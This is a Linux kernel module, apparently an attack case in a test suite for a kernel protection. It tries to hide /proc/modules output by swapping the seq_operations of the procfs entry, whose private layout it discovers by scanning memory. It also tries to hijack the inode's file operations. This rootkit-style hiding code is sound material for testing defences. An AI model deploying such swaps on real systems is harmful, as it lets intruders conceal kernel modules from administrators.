// SPDX-License-Identifier: GPL-2.0
/*
 * Attack: hide behind procfs through its heap objects, not its static
 * tables. Swap the seq_operations of the /proc/modules entry (a struct
 * proc_dir_entry from proc_dir_entry_cache) for the module's own, which
 * would leave lines out of every later listing; and swap the i_fop of the
 * /proc/modules inode (a proc_inode_cache object; the caller holds the
 * file open on fd 3), which every later open would run.
 *
 * struct proc_dir_entry is private to fs/proc, so its layout is found from
 * an entry of the module's own: the field holding our seq_operations, and
 * the field holding proc_root (the parent), which rb_root subdir, then
 * rb_node subdir_node, then the name pointer follow.
 */
#include <linux/module.h>
#include <linux/proc_fs.h>
#include <linux/seq_file.h>
#include <linux/rbtree.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/string.h>
#include "alias.h"

static unsigned long root;
module_param(root, ulong, 0400);

static void *fake_start(struct seq_file *m, loff_t *pos) { return NULL; }
static void *fake_next(struct seq_file *m, void *v, loff_t *pos) { return NULL; }
static void fake_stop(struct seq_file *m, void *v) { }
static int fake_show(struct seq_file *m, void *v) { return 0; }
static const struct seq_operations fake_seq = {
	.start = fake_start, .next = fake_next, .stop = fake_stop, .show = fake_show,
};
static const struct file_operations fake_fops = { .owner = THIS_MODULE };

/* The offset of the qword equal to `value` in the first `len` bytes of
 * `object`, or -1. */
static long field_of(const void *object, size_t len, unsigned long value)
{
	size_t i;

	for (i = 0; i + 8 <= len; i += 8)
		if (*(const unsigned long *)(object + i) == value)
			return i;
	return -1;
}

static const char *entry_swap(void)
{
	struct proc_dir_entry *mine = proc_create_seq("atk_procfs", 0, NULL, &fake_seq);
	const char *result = "not found";
	long seq, parent;
	struct rb_node *node;

	if (!mine || !root)
		return "not tried (no entry of its own, or no proc_root)";
	seq = field_of(mine, 192, (unsigned long)&fake_seq);
	parent = field_of(mine, 192, root);
	if (seq < 0 || parent < 0) {
		proc_remove(mine);
		return "not tried (layout not found)";
	}
	/* parent, subdir (rb_root), subdir_node (rb_node: 24 bytes), name. */
	for (node = rb_first((struct rb_root *)(root + parent + 8)); node; node = rb_next(node)) {
		void *entry = (void *)node - (parent + 16);
		const char *name = *(const char **)(entry + parent + 16 + sizeof(struct rb_node));

		if (strcmp(name, "modules") == 0) {
			result = swap_held(entry + seq, (unsigned long)&fake_seq);
			break;
		}
	}
	proc_remove(mine);
	return result;
}

static const char *inode_swap(void)
{
	struct file *f = fget(3);
	const char *result;

	if (!f)
		return "not tried (no fd 3)";
	result = swap_held((volatile unsigned long *)&file_inode(f)->i_fop, (unsigned long)&fake_fops);
	fput(f);
	return result;
}

static int __init atk_init(void)
{
	const char *entry = entry_swap();

	report("/proc/modules entry seq_ops swap %s, proc inode i_fop swap %s", entry, inode_swap());
	return -EACCES;
}
module_init(atk_init);
MODULE_LICENSE("GPL");
